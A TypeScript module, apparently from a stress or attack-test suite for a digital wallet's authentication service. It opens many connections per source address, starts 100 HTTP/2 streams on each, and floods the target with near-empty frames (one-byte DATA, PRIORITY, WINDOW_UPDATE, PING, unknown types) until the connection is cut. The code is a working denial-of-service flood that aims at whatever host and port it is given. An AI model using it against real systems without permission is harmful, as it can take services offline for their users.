import { once } from 'node:events';
import { connect as connectTcp } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

import { AuthServiceService } from '../../protos/gen/digitalwallet/auth/v1/auth.ts';
import { frame, types, u32 } from '../fuzz/http2-bytes.ts';
import type { Attack } from './attack.ts';
import { dataFrame, greeting, openRequest } from './bytes.ts';

const connectionsPerAddress = 4;
const streamsPerConnection = 100;

const repeat = (bytes: Buffer, times: number): Buffer =>
  Buffer.concat(Array.from({ length: times }, () => bytes));

/** What each connection sends again and again, by turns. */
const floods: readonly { readonly what: string; readonly bytes: Buffer }[] = [
  { what: 'one-byte frames', bytes: oneByteFrames() },
  { what: 'PRIORITY', bytes: repeat(frame(types.priority, 0, 1, Buffer.alloc(5)), 2_000) },
  { what: 'WINDOW_UPDATE', bytes: repeat(frame(types.window, 0, 0, u32(1)), 2_000) },
  { what: 'unknown frames', bytes: repeat(frame(0xfa, 0, 0, Buffer.alloc(1)), 2_000) },
  { what: 'PING', bytes: repeat(frame(types.ping, 0, 0, Buffer.alloc(8)), 1_000) },
];

/** Connections of one network that send frames which carry next to nothing, until they are cut. */
export async function pourFrames(attack: Attack): Promise<void> {
  const lines = attack.from.flatMap((from) =>
    Array.from({ length: connectionsPerAddress }, (_, n) => ({ from, n })),
  );
  await Promise.all(
    lines.map(async ({ from, n }, index) => {
      for (let turn = index + n; !attack.isOver(); turn += 1) {
        await pourOnce(attack, from, floods[turn % floods.length] ?? floods[0]);
        await sleep(50);
      }
    }),
  );
}

async function pourOnce(
  { host, port, isOver, counts }: Attack,
  localAddress: string,
  flood: (typeof floods)[number] | undefined,
): Promise<void> {
  if (!flood) return;
  const add = (what: string, count: number): void =>
    void counts.set(what, (counts.get(what) ?? 0) + count);
  const socket = connectTcp({ host, port, localAddress });
  const closing = new AbortController();
  socket.on('error', () => undefined);
  socket.once('close', () => closing.abort());
  socket.resume();
  socket.write(greeting);
  for (let n = 0; n < streamsPerConnection; n += 1) {
    socket.write(openRequest(2 * n + 1, AuthServiceService.signIn.path));
  }
  add('connections', 1);
  while (!closing.signal.aborted && !isOver()) {
    add(`${flood.what}: bytes`, flood.bytes.length);
    if (socket.write(flood.bytes)) {
      await sleep(1);
      continue;
    }
    const signal = AbortSignal.any([closing.signal, AbortSignal.timeout(5_000)]);
    await once(socket, 'drain', { signal }).catch(() => undefined);
  }
  if (closing.signal.aborted) add(`${flood.what}: cut`, 1);
  socket.destroy();
}

/** The head of a message first, byte by byte, and then bytes of it, on each of the streams. */
function oneByteFrames(): Buffer {
  const bytes: Buffer[] = [];
  for (let round = 0; round < 20; round += 1) {
    for (let n = 0; n < streamsPerConnection; n += 1) {
      bytes.push(dataFrame(2 * n + 1, Buffer.from([round < 3 ? 0 : 1])));
    }
  }
  return Buffer.concat(bytes);
}
